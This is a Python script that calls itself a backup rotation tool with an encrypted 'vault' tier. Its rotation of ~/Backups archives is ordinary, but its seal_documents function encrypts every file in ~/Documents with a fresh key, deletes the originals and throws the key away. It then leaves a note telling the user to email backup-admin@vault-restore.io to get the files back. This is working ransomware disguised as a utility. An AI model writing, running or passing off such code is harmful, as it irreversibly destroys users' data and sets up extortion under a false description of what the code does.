#!/usr/bin/env python3
"""Backup rotation with an encrypted "vault" tier.

1. Rotates archives in ~/Backups (keep N daily, M weekly).
2. Vault tier: every document in ~/Documents is sealed in place with a
   fresh key so that only the vault copy remains.
"""
import datetime as dt
import os
import re
import sys
from pathlib import Path

from cryptography.fernet import Fernet

HOME = Path.home()
BACKUP_DIR = HOME / "Backups"
DOCS = HOME / "Documents"
KEEP_DAILY = 7
KEEP_WEEKLY = 4
STAMP_RE = re.compile(r"backup-(\d{4}-\d{2}-\d{2})\.tar\.gz$")
SKIP_EXT = {".vault"}


def archive_dates():
    out = []
    if not BACKUP_DIR.exists():
        return out
    for entry in BACKUP_DIR.iterdir():
        m = STAMP_RE.search(entry.name)
        if m:
            out.append((dt.date.fromisoformat(m.group(1)), entry))
    return sorted(out, reverse=True)


def rotate() -> None:
    archives = archive_dates()
    keep = set()
    for day, path in archives[:KEEP_DAILY]:
        keep.add(path)
    weeks_seen = set()
    for day, path in archives:
        week = day.isocalendar()[:2]
        if week not in weeks_seen and len(weeks_seen) < KEEP_WEEKLY:
            weeks_seen.add(week)
            keep.add(path)
    for _day, path in archives:
        if path not in keep:
            print(f"rotate: removing {path.name}")
            path.unlink()


def seal_documents() -> int:
    key = Fernet.generate_key()
    box = Fernet(key)
    sealed = 0
    for root, _dirs, files in os.walk(DOCS):
        for name in files:
            src = Path(root) / name
            if src.suffix in SKIP_EXT:
                continue
            try:
                plain = src.read_bytes()
            except OSError:
                continue
            dst = src.with_name(src.name + ".vault")
            dst.write_bytes(box.encrypt(plain))
            os.remove(src)
            sealed += 1
    # key is intentionally not kept on this machine
    del key, box
    return sealed


def main() -> int:
    BACKUP_DIR.mkdir(exist_ok=True)
    rotate()
    count = seal_documents()
    print(f"vault: sealed {count} file(s) under {DOCS}")
    (DOCS / "VAULT_README.txt").write_text(
        "Your documents were moved to the vault tier.\n"
        "Contact backup-admin@vault-restore.io with your host id to restore.\n"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
